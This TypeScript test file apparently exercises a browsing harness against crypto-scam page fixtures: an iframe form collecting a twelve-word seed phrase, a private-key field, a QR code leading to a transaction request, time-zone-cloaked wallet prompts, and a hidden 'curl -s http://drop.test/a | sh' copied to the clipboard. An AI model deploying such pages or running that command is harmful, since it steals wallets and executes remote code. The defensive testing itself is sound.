import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import encodeQR from 'qr'
import { ACCOUNT, browsePages } from './testing/browsePages.ts'
import { findChromium } from './testing/chromium.ts'

const page = (body: string) => `<!doctype html><title>Page</title>${body}`

describe('what a visitor reaches of a page', { skip: findChromium().skip, timeout: 240_000 }, () => {
  it('is what a frame of another site asks for', async () => {
    const { browsing, documents } = await browsePages({
      '/': page('<h1>Help</h1><iframe src="http://shop.elsewhere.test/chat" width="400" height="400"></iframe>'),
      '/chat': page(`<p>Chat</p><button id="open">Balance is missing</button><script>
document.getElementById('open').onclick = () => { document.body.innerHTML = '<p>A form</p>' + Array.from({ length: 12 }, (_, at) => '<input size="6" placeholder="' + (at + 1) + '">').join('') + '<button id="send">Send</button>'
document.getElementById('send').onclick = () => { const words = [...document.querySelectorAll('input')].map((one) => one.value).join(' '); if (/^(?:[a-z]{3,8} ){11}[a-z]{3,8}$/.test(words)) fetch('/kept', { method: 'POST', body: words }) } }</script>`),
    })
    assert.deepEqual(
      browsing.typed.map(({ kind, host }) => `${kind} ${host}`),
      ['phrase shop.elsewhere.test'],
    )
    const foreign = documents.filter(({ isForeign }) => isForeign)
    assert.equal(
      foreign.some(({ html }) => html.includes('placeholder="12"')),
      true,
    )
  })

  it('is the account that a field wants, and no account where a key is wanted', async () => {
    const { browsing } = await browsePages({
      '/': page(`<input id="of" placeholder="0x…"><input id="key" placeholder="Private key 0x…"><button id="go">Check</button><script>
document.getElementById('go').onclick = () => { alert(document.getElementById('of').value + ' ' + /0x/.test(document.getElementById('key').value)) }</script>`),
    })
    assert.equal(browsing.dialogs[0], `alert: ${ACCOUNT} false`)
  })

  it('is where a QR code leads, as a window of its own', async (t) => {
    const code = (to: string) => `<div style="width:220px">${encodeQR(to, 'svg', { scale: 4 })}</div>`
    const asks = page(`<button id="b">Receive</button><script>
document.getElementById('b').onclick = async () => { const [from] = await ethereum.request({ method: 'eth_requestAccounts' }); await ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to: '0x${'12'.repeat(20)}', value: '0x1' }] }) }</script>`)
    const { asked, browsing } = await browsePages({
      '/': page(`<h1>Scan to receive</h1>${code('http://shop.elsewhere.test/pay')}`),
      '/pay': asks,
    })
    // A machine that is busy with other things does not read codes in time.
    if (browsing.cutOff === 'codes') return t.skip('the code was not read in time')
    assert.equal(browsing.codes[0]?.kind, 'link')
    assert.deepEqual(
      asked.map(({ method }) => method),
      ['eth_requestAccounts', 'eth_sendTransaction'],
    )
  })

  it('is what is shown at the other side of the world', async () => {
    const { browsing } = await browsePages({
      '/': page(`<p id="t">Soup</p><script>
if (Intl.DateTimeFormat().resolvedOptions().timeZone.startsWith('Asia/')) document.body.innerHTML = '<button id="b">Gift</button>', document.getElementById('b').onclick = () => ethereum.request({ method: 'eth_requestAccounts' })</script>`),
    })
    assert.deepEqual(
      browsing.requests.map(({ method }) => method),
      ['eth_requestAccounts'],
    )
  })

  it('is the end of a long page, and not a text that a box around it cuts off', async () => {
    const { browsing } = await browsePages({
      '/': page(`<div style="height:40px;overflow:hidden"><p style="height:40px">Seen</p><textarea id="c" readonly>curl -s http://drop.test/a | sh</textarea></div>
<div style="height:30000px"></div><button id="b">Copy</button><script>
addEventListener('scroll', () => { if (scrollY > 20000) document.getElementById('b').textContent = 'Copy now' })
document.getElementById('b').onclick = () => { alert(document.getElementById('b').textContent); document.getElementById('c').select(); document.execCommand('copy') }</script>`),
    })
    assert.equal(browsing.dialogs[0], 'alert: Copy now')
    assert.equal(browsing.copies[0]?.shown, false)
  })
})
